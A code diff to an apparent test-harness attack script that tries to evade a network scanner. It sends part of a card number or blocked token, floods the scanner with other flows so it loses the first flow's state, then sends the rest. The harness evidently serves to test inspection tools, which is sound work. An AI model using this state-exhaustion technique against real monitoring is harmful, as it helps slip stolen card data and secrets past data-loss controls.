@@ -1,7 +1,8 @@
 """A flood of flows, to make a scanner forget what it knows of one.
 
-`way`: `tail` (between two halves of a value), `block` (between a datagram that blocks its flow,
-and one of the same flow that nothing but that block stops: the secret `after`).
+`way`: `tail` (between two halves of a value), `tcp` and `udp` (between `token`, which only the
+inspector can decide and which gets the flow blocked, and `after`, which is clean: nothing but
+the block stops it).
 """
 
 from __future__ import annotations
@@ -14,28 +15,34 @@ import time
 from attacks.target import DISCARD, Target, refused
 
 PER_SOCKET = 50_000
-SETTLE = 0.1
+DECIDED = 0.5  # seconds until the inspector has spoken
 
 
 def main(target: Target) -> None:
     """Send, flood, send."""
     if target.args["way"] == "tail":
         value, half = target.secret, len(target.secret) // 2
-        with target.tcp(timeout=5) as out, refused():
-            out.sendall(b"order 17, card " + value[:half])
-            time.sleep(SETTLE)
-            flood(target)
-            out.sendall(value[half:] + b", thanks\n")
-            time.sleep(0.4)
-        return
-    with socket.socket(target.af, socket.SOCK_DGRAM) as out:
-        out.connect((target.address, target.port))
-        for number, secret in enumerate(target.secrets.values()):
-            if number:
-                flood(target)
-            with refused():
-                out.send(b"order 17, card " + secret.encode() + b", thanks\n")
-            time.sleep(SETTLE)
+        first, second = b"order 17, card " + value[:half], value[half:] + b", thanks\n"
+    else:
+        first = b"token " + target.secrets["token"].encode() + b" \n"
+        second = b"a clean text: " + target.secrets["after"].encode() + b"\n"
+    with connected(target, udp=target.args["way"] == "udp") as out:
+        with refused():
+            out.sendall(first)
+        time.sleep(DECIDED)
+        flood(target)
+        with refused():
+            out.sendall(second)
+        time.sleep(DECIDED)
+
+
+def connected(target: Target, *, udp: bool) -> socket.socket:
+    """The flow that is not to be forgotten."""
+    if not udp:
+        return target.tcp(timeout=5)
+    made = socket.socket(target.af, socket.SOCK_DGRAM)
+    made.connect((target.address, target.port))
+    return made
 
 
 def flood(target: Target) -> None:
